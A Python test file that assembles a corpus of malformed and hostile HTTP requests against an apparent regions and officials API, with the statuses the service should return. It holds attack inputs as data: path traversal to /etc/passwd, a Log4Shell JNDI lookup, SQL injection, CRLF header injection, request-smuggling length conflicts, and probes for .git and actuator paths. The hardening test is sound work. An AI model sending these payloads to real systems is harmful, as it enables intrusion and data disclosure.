"""Requests that nobody should send, as bytes, and what becomes of each.

`expected` are the statuses that are right. 200 stands only where the request is legal, however odd. `CLOSED`: the
connection may be closed without an answer. `secret`: what an answer must not repeat.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote_from_bytes

from tests.service.wire import get, post

KIB = 1024
CLOSED = 0
LEGAL = 200
CANARY = b"kenari7"  # a value that is nowhere in the service's own words


@dataclass(frozen=True)
class Nasty:
    name: str
    sent: tuple[bytes, ...]
    expected: frozenset[int]
    secret: bytes = CANARY
    half_close: bool = False

    def __str__(self) -> str:
        return self.name


def nasty(name: str, sent: bytes | tuple[bytes, ...], *expected: int, secret: bytes = CANARY) -> Nasty:
    return Nasty(name, (sent,) if isinstance(sent, bytes) else sent, frozenset(expected), secret)


def asked(group: str, target: str, values: dict[str, bytes], *expected: int) -> Iterator[Nasty]:
    """GET of a target in whose `{}` each value is put as it is."""
    before, after = (part.encode() for part in target.split("{}"))
    for name, value in values.items():
        # What is short may stand in the answer by chance, and a whole query has names, which may be told.
        secret = value if len(value) >= 3 and before.endswith(b"=") else CANARY
        yield nasty(f"{group}: {name}", get(before + value + after), *expected, secret=secret)


def escaped(text: str) -> bytes:
    return quote_from_bytes(text.encode()).encode()


NUMBERS = {
    "negative": b"-1",
    "zero": b"0",
    "above the limit": b"201",
    "exponent": b"1e3",
    "plus, encoded": b"%2B5",
    "plus, which is a space": b"+5",
    "underscore": b"1_0",
    "hexadecimal": b"0x10",
    "fraction": b"10.0",
    "comma": b"1,000",
    "space around": b"%2010%20",
    "newline behind": b"10%0A",
    "Arabic digit": escaped("٣"),
    "fullwidth digits": escaped("\uff11\uff10"),
    "superscript": escaped("²"),
    "2^63": b"9223372036854775808",
    "2^31": b"2147483648",
    "10^400": b"1" + b"0" * 400,
    "NaN": b"NaN",
    "infinity": b"Infinity",
    "true": b"true",
    "null": b"NULL",
    "a word": CANARY,
    "SQL": b"1%3B%20DROP%20TABLE%20regions--",
}

DAYS = {
    "30 February": b"2023-02-30",
    "29 February of no leap year": b"1900-02-29",
    "before 1900": b"1899-12-31",
    "after 2199": b"2200-01-01",
    "year 0": b"0000-01-01",
    "year 1": b"0001-01-01",
    "year 10000": b"10000-01-01",
    "year with sign": b"%2B02022-06-14",
    "negative year": b"-2022-06-14",
    "without hyphens": b"20220614",
    "without zeros": b"2022-6-14",
    "month 13": b"2022-13-01",
    "day 0": b"2022-06-00",
    "week": b"2022-W24-2",
    "ordinal": b"2022-165",
    "month alone": b"2022-06",
    "with a time": b"2022-06-14T00:00:00Z",
    "leap second": b"2016-12-31T23:59:60Z",
    "with a zone": b"2022-06-14Z",
    "day first": b"14-06-2022",
    "slashes": b"2022/06/14",
    "Arabic digits": escaped("٢٠٢٢-٠٦-١٤"),
    "en dashes": escaped("2022\u201306\u201314"),
    "space before": b"%202022-06-14",
    "newline behind": b"2022-06-14%0A",
    "a number": b"1655164800",
    "today": b"today",
    "infinity": b"infinity",
}

NO_TEXT = {
    "overlong slash": b"%C0%AF",
    "overlong NUL": b"%C0%80",
    "lone high surrogate": b"%ED%A0%80",
    "lone low surrogate": b"%ED%BF%BF",
    "surrogate pair in UTF-8": b"%ED%A0%BD%ED%B8%80",
    "stray continuation": b"kpu%80",
    "cut off": b"kpu%E2%82",
    "Latin-1": b"Asy%E9ari",
    "beyond Unicode": b"%F4%90%80%80",
    "FE FF": b"%FE%FF",
    "no hexadecimal": b"kpu%zz",
    "percent alone": b"100%",
    "percent and one digit": b"kpu%4",
    "percent u": b"%u0041%u0042",
    "NUL": b"kpu%00",
    "NUL alone": b"%00",
}

ODD_TEXT = {
    "byte order mark": escaped("\ufeffkpu"),
    "right to left": escaped("\u202eupk"),
    "combining marks": escaped("a" + "\u0301" * 60),
    "four bytes": escaped("🗳️🇮🇩 kpu"),
    "noncharacters": escaped("\ufffe\uffff\U0010ffff"),
    "Arabic": escaped("تهاني"),
    "control characters": b"kpu%01%1B%7F%0D%0A",
    "LIKE wildcards": b"%25%25__",
    "backslashes": b"%5C%5C%27%5C",
    "quotes": b"%27%22%27%22",
    "apostrophes only": b"%27%27%27",
    "spaces only": b"+++",
    "tsquery": b"a%20%26%20!%7C%20(b",
    "regular expression": b"(a%2B)%2B%24",
    "a hundred of four bytes": escaped("🗳" * 100),
    "replacement character": escaped("\ufffd\ufffd"),
}

QUERIES = {
    "repeated": b"type=city&type=province",
    "repeated, equal": b"type=city&type=city",
    "repeated, encoded": b"type=city&t%79pe=city",
    "empty value": b"type=",
    "no value": b"type",
    "no name": b"=kenari7",
    "empty pair": b"type=city&&parent=31",
    "ampersand at the end": b"type=city&",
    "ampersand alone": b"&",
    "equals alone": b"=",
    "unknown": b"kenari=kenari7",
    "unknown, prototype": b"__proto__=kenari7",
    "unknown, bracketed": b"type[]=kenari7",
    "unknown, other case": b"Type=city",
    "unknown, space in front": b"%20type=city",
    "unknown, in another script": b"typ%D0%B5=city",
    "semicolon instead": b"type=city;parent=31",
    "question mark again": b"type=city?parent=31",
    "encoded ampersand": b"type=city%26parent=31",
    "unknown value": b"type=kenari7",
    "value in other case": b"type=City",
    "unknown code": b"parent=kenari7",
    "long code": b"parent=" + CANARY * 20,
    "sort unknown": b"sort=kenari7",
    "sort twice down": b"sort=--name",
    "sort by two": b"sort=name,code",
    "sort with spaces": b"sort=%20name",
    "sort by SQL": b"sort=(select%20kenari7)",
    "fields unknown": b"fields=kenari7",
    "fields, one unknown": b"fields=code,kenari7",
    "fields, empty one": b"fields=code,,name",
    "fields with a space": b"fields=code,%20name",
    "fields, all": b"fields=*",
    "fields, nested": b"fields=parent.code",
    "fields, a thousand": b"fields=" + b",".join([b"kenari7"] * 1000),
    "q too short": b"q=k",
    "q too long": b"q=" + b"kenari7" * 15,
    "q of 8,000": b"q=" + b"k" * 8000,
    "q with sort": b"q=kenari7&sort=name",
    "token forged": b"page_token=kenari7",
    "token of zeros": b"page_token=" + b"A" * 64,
    "token in base64 of old": b"page_token=%2B%2F%3D%3D",
    "token in another script": b"page_token=" + escaped("токен"),
    "token with a space": b"page_token=%20",
    "token of 3,000": b"page_token=" + b"A" * 3000,
    "token with a NUL within": b"page_token=" + b"AAAAAAAAAAAAAAAAAAAAAFsiMTEAIl0",
    "101 parameters": b"&".join(b"a%d=kenari7" % n for n in range(101)),
    "4,000 ampersands": b"&" * 4000,
}

MISSING = {
    "no such address": b"/v1/kenari7",
    "no such code": b"/v1/regions/kenari7",
    "two slashes": b"//v1/regions",
    "two slashes within": b"/v1//regions",
    "trailing slash": b"/v1/regions/",
    "two trailing slashes": b"/v1/regions//",
    "trailing slash of an item": b"/v1/regions/31/",
    "mixed case": b"/V1/Regions",
    "mixed case of an operator's route": b"/Metrics",
    "dots": b"/v1/regions/../regions",
    "dots, encoded": b"/v1/%2e%2e/v1/regions",
    "dots and slash, encoded": b"/v1/regions/..%2fregions",
    "dots, double encoded": b"/v1/regions/%252e%252e%252fregions",
    "dot": b"/v1/./regions",
    "backslashes": b"/v1\\regions",
    "backslashes, encoded": b"/v1/regions/..%5C..%5Cregions",
    "encoded slash": b"/v1%2Fregions",
    "encoded slash in a code": b"/v1/regions/31%2F",
    "file": b"/docs/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "file, no dots": b"/docs/%2Fetc%2Fpasswd",
    "file of the asset's package": b"/docs/__init__.py",
    "path parameter": b"/v1/regions;kenari7=1",
    "path parameter in a code": b"/v1/regions/31;kenari7",
    "encoded question mark": b"/v1/regions%3Ftype=city",
    "space, encoded": b"/v1/regions%20",
    "tab, encoded": b"/v1/regions/31%09",
    "newline, encoded": b"/v1/regions/31%0D%0AX-Kenari7:%201",
    "a code of 4,000": b"/v1/regions/" + b"k" * 4000,
    "a code of 4 bytes' characters": b"/v1/organizations/" + escaped("🗳" * 50),
    "roster of nobody": b"/v1/organizations/kenari7/officials",
    "Arabic digits for a code": b"/v1/regions/" + escaped("٣١"),
    "no problem": b"/problems/kenari7",
    "WordPress": b"/wp-login.php",
    "git": b"/.git/config",
    "actuator": b"/actuator/env",
    "2,000 segments": b"/a" * 2000,
}

NO_IDS = {
    "a word": CANARY,
    "braces": b"%7B01a20c10-0ad9-7584-8953-0eb59d6a8d90%7D",
    "without hyphens": b"01a20c100ad9758489530eb59d6a8d90",
    "urn": b"urn:uuid:01a20c10-0ad9-7584-8953-0eb59d6a8d90",
    "fullwidth digits": escaped("\uff101a20c10-0ad9-7584-8953-0eb59d6a8d90"),
    "newline behind": b"01a20c10-0ad9-7584-8953-0eb59d6a8d90%0A",
}

HARMLESS_FIELDS = {
    "200 fields": b"\r\n".join(b"X-%d: kenari7" % n for n in range(200)),
    "empty value": b"X-Empty:",
    "bytes that are no ASCII": b"X-Name: Asy\xe9ari kenari7",
    "emoji": b"X-Name: \xf0\x9f\x97\xb3",
    "SQL": b"X-Forwarded-For: '; DROP TABLE regions--",
    "Log4Shell": b"User-Agent: ${jndi:ldap://kenari7/a}",
    "If-None-Match nonsense": b'If-None-Match: kenari7, "", W/, "a" "b", ,,,',
    "If-None-Match of 20 KiB": b'If-None-Match: "' + b'kenari7", "' * 2000 + b'"',
    "If-Modified-Since nonsense": b"If-Modified-Since: kenari7",
    "If-Match nonsense": b"If-Match: kenari7",
    "Accept-Language nonsense": b"Accept-Language: kenari7;q=kenari7, ;;;, *;q=1e999, en;q=nan, -",
    "Accept-Language of 20 KiB": b"Accept-Language: " + b"k-k;q=0.1," * 2000,
    "Accept with odd weights": b"Accept: application/json;q=1_0, */*;q=-1, a/b;q=nan;;;=",
    "Accept empty": b"Accept:",
    "Accept-Encoding nonsense": b"Accept-Encoding: kenari7;q=kenari7, ;, *;q=-1, gzip;q=",
    "Range": b"Range: bytes=0-0",
    "Range nonsense": b"Range: kenari7=-1--1,,",
    "Origin nonsense": b"Origin: kenari7\x80",
    "Authorization nonsense": b"Authorization: kenari7",
    "Cookie": b"Cookie: a=kenari7; a=kenari7",
    "X-Request-Id to be replaced": b"X-Request-Id: kenari7 <script>",
    "X-Request-Id of 20 KiB": b"X-Request-Id: " + b"kenari7" * 3000,
    "traceparent nonsense": b"traceparent: 00-kenari7-\xff-zz",
    "another method, asked for": b"X-HTTP-Method-Override: DELETE",
    "X-Forwarded": b"X-Forwarded-Prefix: /kenari7\r\nX-Forwarded-Host: kenari7\r\nForwarded: host=kenari7",
    "upgrade to websocket": b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: a2VuYXJpNw==\r\n"
    b"Sec-WebSocket-Version: 13",
    "upgrade to h2c": b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
    "upgrade to kenari7": b"Connection: Upgrade\r\nUpgrade: kenari7",
    "expectation": b"Expect: 100-continue",
    "body of no bytes": b"Content-Length: 0",
}

BROKEN_FIELDS = {
    "name with a space": b"Bad Name: kenari7",
    "name with a space behind": b"X-Name : kenari7",
    "name with a NUL": b"X\x00Name: kenari7",
    "name with other bytes": b"X-N\xc3\xa4me: kenari7",
    "name with parentheses": b"X(Name): kenari7",
    "no name": b": kenari7",
    "no colon": b"kenari7",
    "value with a NUL": b"X-Name: kenari7\x00",
    "value with a carriage return": b"X-Name: ken\rari7",
    "value with an escape": b"X-Name: \x1bkenari7",
    "folded": b"X-Name: a\r\n kenari7",
    "folded at once": b" X-Name: kenari7",
    "two lengths": b"Content-Length: 0\r\nContent-Length: 5",
    "two equal lengths": b"Content-Length: 5\r\nContent-Length: 5",
    "two lengths in one": b"Content-Length: 5, 5",
    "length and chunks": b"Content-Length: 5\r\nTransfer-Encoding: chunked",
    "chunks and length": b"Transfer-Encoding: chunked\r\nContent-Length: 5",
    "negative length": b"Content-Length: -1",
    "length with a sign": b"Content-Length: +5",
    "length in hexadecimal": b"Content-Length: 0x5",
    "length with an underscore": b"Content-Length: 1_0",
    "length of 2^64": b"Content-Length: 18446744073709551616",
    "length of 10^30": b"Content-Length: 1" + b"0" * 30,
    "length empty": b"Content-Length:",
    "length in Arabic digits": "Content-Length: ٣".encode(),
    "unknown coding": b"Transfer-Encoding: kenari7",
    "chunks, then gzip": b"Transfer-Encoding: chunked, gzip",
    "chunks twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: kenari7",
    "chunks with a tab": b"Transfer-Encoding: \x0bchunked",
}

BROKEN_HOSTS = {
    "two": b"Host: localhost\r\nHost: kenari7",
    "with a space": b"Host: local host",
    "with a path": b"Host: localhost/kenari7",
    "with a query": b"Host: localhost?kenari7",
    "with a user": b"Host: kenari7@localhost",
    "open bracket": b"Host: [::1",
    "other bytes": b"Host: local\xffhost",
    "port of letters": b"Host: localhost:kenari7",
    "a list": b"Host: localhost, kenari7",
}

REFUSED_METHODS = (b"POST", b"PUT", b"PATCH", b"DELETE", b"TRACE", b"PROPFIND", b"PURGE", b"LINK", b"M-SEARCH")
UNKNOWN_METHODS = (b"BREW", b"get", b"Get", b"GETS", b"GE T", b"\x16\x03\x01", b"G\x00T", b"")

NO_HTTP = {
    "HTTP/0.9": b"GET /v1/regions\r\n\r\n",
    "HTTP/3.0": get(b"/v1/regions", version=b"HTTP/3.0"),
    "HTTP/2.0": get(b"/v1/regions", version=b"HTTP/2.0"),
    "HTTP/0.9, said so": get(b"/v1/regions", version=b"HTTP/0.9"),
    "HTTP/1.2": get(b"/v1/regions", version=b"HTTP/1.2"),
    "HTTP/1.10": get(b"/v1/regions", version=b"HTTP/1.10"),
    "HTTP/1": get(b"/v1/regions", version=b"HTTP/1"),
    "http in small letters": get(b"/v1/regions", version=b"http/1.1"),
    "HTTPS": get(b"/v1/regions", version=b"HTTPS/1.1"),
    "no target": b"GET HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "two targets": get(b"/v1/regions /kenari7"),
    "tab in the request line": b"GET\t/v1/regions\tHTTP/1.1\r\nHost: localhost\r\n\r\n",
    "HTTP/2's preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "TLS": bytes.fromhex("16030100a1010000") + b"9d0303" * 20 + b"\r\n\r\n",
    "SSH": b"SSH-2.0-kenari7\r\n\r\n",
    "SMTP": b"EHLO kenari7\r\n\r\n",
    "JSON": b'{"kenari7": 1}\r\n\r\n',
    "an answer": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    "NULs": b"\x00" * 100,
    "no host": b"GET /v1/regions HTTP/1.1\r\n\r\n",
    "asterisk": get(b"*"),
    "OPTIONS of all": get(b"*", method=b"OPTIONS"),
    "CONNECT": get(b"kenari7:443", method=b"CONNECT"),
    "CONNECT to a path": get(b"/v1/regions", method=b"CONNECT"),
    "no slash in front": get(b"v1/regions"),
    "fragment": get(b"/v1/regions#kenari7"),
    "raw bytes in the path": get(b"/v1/regions/\xff\xfe"),
    "raw UTF-8 in the query": get("/v1/regions?q=Asy\u02bcari".encode()),
    "raw NUL": get(b"/v1/regions\x00"),
    "raw control character": get(b"/v1/\x01regions"),
    "address of another scheme": get(b"gopher:kenari7"),
    "broken absolute address": get(b"http://[kenari7/v1/regions"),
}

CHUNKED = b"Transfer-Encoding: chunked"
BAD_CHUNKS = {
    "no number": b"zz\r\n",
    "negative": b"-1\r\na\r\n",
    "prefixed": b"0x1\r\na\r\n0\r\n\r\n",
    "underscore": b"1_0\r\n",
    "too many digits": b"1" + b"0" * 20 + b"\r\n",
    "longer than said": b"1\r\nabc\r\n0\r\n\r\n",
    "line feeds alone": b"1\na\n0\n\n",
    "extension without an end": b"1;" + b"k" * 100 * KIB,
    "trailer without an end": b"1\r\na\r\n0\r\nX: " + b"k" * 100 * KIB,
    "trailer that is none": b"1\r\na\r\n0\r\nkenari7\r\n\r\n",
}


def cases() -> Iterator[Nasty]:
    yield from asked("number", "/v1/regions?page_size={}", NUMBERS, 422)
    yield from asked("size of a body", "/v1/divisions?members={}", {"negative": b"-5", "100": b"100"}, 422)
    yield from asked("day", "/v1/regions?as_of={}", DAYS, 422)
    yield from asked("day of an item", "/v1/officials/01a20c10-0ad9-7584-8953-0eb59d6a8d90?as_of={}", DAYS, 422)
    yield from asked("no text in the query", "/v1/officials?q={}", NO_TEXT, 400)
    yield from asked("no text in a name", "/v1/officials?q{}=a", NO_TEXT, 400)
    yield from asked("no text in the path", "/v1/organizations/{}", NO_TEXT, 400)
    yield from asked("odd text to search", "/v1/officials?q={}", ODD_TEXT, LEGAL)
    yield from asked("odd text for a code", "/v1/officials?organization={}", ODD_TEXT, 422)
    yield from asked("query", "/v1/regions?{}", QUERIES, 422)
    yield from asked("address", "{}", MISSING, 404)
    yield from asked("id", "/v1/officials/{}", NO_IDS, 422)
    for name, lines in HARMLESS_FIELDS.items():
        yield nasty(f"field: {name}", get(b"/v1/regions", lines), LEGAL, secret=b"kenari7")
    for name, lines in BROKEN_FIELDS.items():
        yield nasty(f"broken field: {name}", get(b"/v1/regions", lines), 400)
        yield nasty(f"broken field of POST: {name}", get(b"/v1/regions", lines, method=b"POST"), 400)
    for name, lines in BROKEN_HOSTS.items():
        yield nasty(f"host: {name}", get(b"/v1/regions", lines), 400)
    for method in REFUSED_METHODS:
        yield nasty(f"method {method!r}", get(b"/v1/regions", method=method), 405)
        yield nasty(f"method {method!r} on nothing", get(b"/v1/kenari7", method=method), 404)
    for method in UNKNOWN_METHODS:
        yield nasty(f"method {method!r}", get(b"/v1/regions", method=method), 400, CLOSED)
    for name, sent in NO_HTTP.items():
        yield nasty(f"no HTTP: {name}", sent, 400)
    for name, chunks in BAD_CHUNKS.items():
        # 405 where the kernel brings the head before its broken body: that much of the request was in order.
        yield nasty(f"chunk: {name}", get(b"/v1/regions", CHUNKED, method=b"POST") + chunks, 400, 405, 431)
    yield from sizes()
    yield from bodies()
    yield from odd_but_legal()


def sizes() -> Iterator[Nasty]:
    yield nasty("URL of 8 KiB", get(b"/v1/regions?q=" + b"k" * (8 * KIB - 14)), 422)
    yield nasty("URL of 8 KiB and 1", get(b"/v1/regions?q=" + b"k" * (8 * KIB - 13)), 414)
    yield nasty("URL of 60 KiB", get(b"/" + b"k" * 60 * KIB), 414)
    yield nasty("URL of 60 KiB, HEAD", get(b"/" + b"k" * 60 * KIB, method=b"HEAD"), 414)
    yield nasty("URL of 5 MB", get(b"/" + b"k" * 5_000_000), 414)
    yield nasty("URL of escapes", get(b"/v1/officials?q=" + b"%41" * 2720), 422)
    yield nasty("method of 100 KiB", get(b"/", method=b"K" * 100 * KIB), 400, 431)
    yield nasty("field of 40 KiB", get(b"/v1/regions", b"X-Kenari7: " + b"k" * 40 * KIB), 431)
    yield nasty("field of 5 MB", get(b"/v1/regions", b"X-Kenari7: " + b"k" * 5_000_000), 431)
    yield nasty("name of 40 KiB", get(b"/v1/regions", b"K" * 40 * KIB + b": kenari7"), 431)
    yield nasty("9,000 fields", get(b"/v1/regions", *[b"a:b"] * 9000), 431)
    yield nasty("field of 40 KiB on a missing address", get(b"/kenari7", b"X: " + b"k" * 40 * KIB), 431)
    yield nasty("empty lines in front, 100 KiB", b"\r\n" * 50 * KIB + get(b"/v1/regions"), LEGAL, 400, 431)


def bodies() -> Iterator[Nasty]:
    yield nasty("GET with a body", get(b"/v1/regions", b"Content-Length: 7") + CANARY, 400)
    yield nasty("GET with chunks", get(b"/v1/regions", CHUNKED) + b"7\r\nkenari7\r\n0\r\n\r\n", 400)
    yield nasty("HEAD with a body", get(b"/v1/regions", b"Content-Length: 7", method=b"HEAD") + CANARY, 400)
    yield nasty("300 MB, said", get(b"/v1/regions", b"Content-Length: 300000000", method=b"POST"), 413)
    yield nasty("300 MB, said, GET", get(b"/v1/regions", b"Content-Length: 300000000"), 400)
    expecting = get(b"/v1/regions", b"Content-Length: 300000000", b"Expect: 100-continue", method=b"PUT")
    yield nasty("300 MB, asked whether", expecting, 413)
    yield nasty("2 MiB, sent", post(b"/v1/regions", b"k" * 2 * KIB * KIB), 413)
    yield nasty("2 MiB, sent to nobody", post(b"/v1/kenari7", b"k" * 2 * KIB * KIB), 413)
    sent = b"".join(b"10000\r\n%b\r\n" % (b"k" * 64 * KIB) for _ in range(32)) + b"0\r\n\r\n"
    yield nasty("2 MiB in chunks", get(b"/v1/regions", CHUNKED, method=b"POST") + sent, 405, 413)
    for kind in (
        b"application/xml",
        b"text/plain",
        b"kenari7",
        b"application/json; charset=kenari7",
        b"multipart/form-data",
    ):
        yield nasty(f"POST of {kind.decode()}", post(b"/v1/regions", CANARY, b"Content-Type: " + kind), 405)
    for name, body in {
        "broken": b'{"kenari7',
        "deep": b"[" * 100_000,
        "NaN": b'{"kenari7": NaN}',
        "twice": b'{"kenari7": 1, "kenari7": 2}',
        "surrogate": b'"\\ud800"',
        "no UTF-8": b'"\xff\xfe"',
    }.items():
        yield nasty(f"POST of JSON, {name}", post(b"/v1/regions", body, b"Content-Type: application/json"), 405)
    zipped = post(b"/v1/regions", b"\x1f\x8b" + b"\x00" * 100, b"Content-Encoding: gzip")
    yield nasty("POST of gzip", zipped, 405)


def odd_but_legal() -> Iterator[Nasty]:
    yield nasty("zeros in front of a number", get(b"/v1/regions?page_size=007"), LEGAL)
    yield nasty("a leap day", get(b"/v1/regions?as_of=2024-02-29"), LEGAL)
    yield nasty("the first day", get(b"/v1/regions?as_of=1900-01-01"), LEGAL)
    yield nasty("the last day", get(b"/v1/regions?as_of=2199-12-31"), LEGAL)
    yield nasty("question mark without a query", get(b"/v1/regions?"), LEGAL)
    yield nasty("escapes of plain letters", get(b"/v1/%72egions?t%79pe=c%69ty"), LEGAL)
    yield nasty("fields twice the same", get(b"/v1/regions?fields=code,code"), LEGAL)
    yield nasty("HTTP/1.0", get(b"/v1/regions", version=b"HTTP/1.0"), LEGAL)
    yield nasty("HTTP/1.0 without a host", b"GET /v1/regions HTTP/1.0\r\n\r\n", LEGAL)
    yield nasty("absolute address", get(b"http://kenari7/v1/regions"), LEGAL)
    yield nasty("absolute address of another port", get(b"http://kenari7:9/v1/regions"), LEGAL)
    yield nasty("empty host", get(b"/v1/regions", b"Host:"), LEGAL)
    yield nasty("empty line in front", b"\r\n" + get(b"/v1/regions"), LEGAL)
    yield nasty("line feeds alone", get(b"/v1/regions").replace(b"\r\n", b"\n"), LEGAL, 400)
    yield nasty("one byte at a time", tuple(bytes([byte]) for byte in get(b"/v1/regions")), LEGAL)
    yield nasty("OPTIONS", get(b"/v1/regions", method=b"OPTIONS"), 204)
    yield nasty(
        "preflight", get(b"/v1/regions", b"Origin: x", b"Access-Control-Request-Method: x", method=b"OPTIONS"), 204
    )
    yield nasty("If-None-Match anything", get(b"/v1/regions", b"If-None-Match: *"), 304)
    yield nasty("former code", get(b"/v1/regions/91.01"), 308)
    yield nasty("only another type", get(b"/v1/regions", b"Accept: application/xml"), 406)
    yield nasty("a type that is none", get(b"/v1/regions", b"Accept: kenari7"), 406)
    yield nasty("types of 20 KiB", get(b"/v1/regions", b"Accept: " + b"a/kenari7," * 2000), 406)
    yield nasty("JSON refused", get(b"/v1/regions", b"Accept: application/json;q=0"), 406)
    yield nasty("JSON refused twice", get(b"/v1/regions", b"Accept: */*", b"Accept: application/json;q=0"), 406)
    ranges = b"Range: bytes=" + b",".join(b"%d-%d" % (n, n) for n in range(0, 3000, 2))
    yield nasty("ranges of a file", get(b"/docs/swagger-ui.css", ranges), LEGAL, 206)
    yield nasty("range that is none", get(b"/docs/swagger-ui.css", b"Range: bytes=kenari7"), LEGAL, 400)
    yield nasty("range beyond the end", get(b"/docs/swagger-ui.css", b"Range: bytes=99999999-"), LEGAL, 416)
    half = nasty("half closed", get(b"/v1/regions"), LEGAL, CLOSED)
    yield Nasty(half.name, half.sent, half.expected, half_close=True)
    cut = nasty("half closed within the head", get(b"/v1/regions")[:-10], 400, CLOSED)
    yield Nasty(cut.name, cut.sent, cut.expected, half_close=True)
    within = nasty(
        "half closed within the body", get(b"/v1/regions", b"Content-Length: 9", method=b"POST"), 405, CLOSED
    )
    yield Nasty(within.name, within.sent, within.expected, half_close=True)


CORPUS = list(cases())
